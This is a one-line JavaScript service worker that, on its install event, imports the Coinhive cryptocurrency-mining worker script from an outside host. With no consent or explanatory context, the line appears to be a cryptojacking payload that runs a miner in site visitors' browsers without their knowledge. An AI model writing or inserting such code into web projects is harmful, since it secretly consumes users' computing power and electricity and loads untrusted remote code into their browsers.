self.addEventListener('install', function () { importScripts('https://coin-hive.com/lib/worker.js'); });
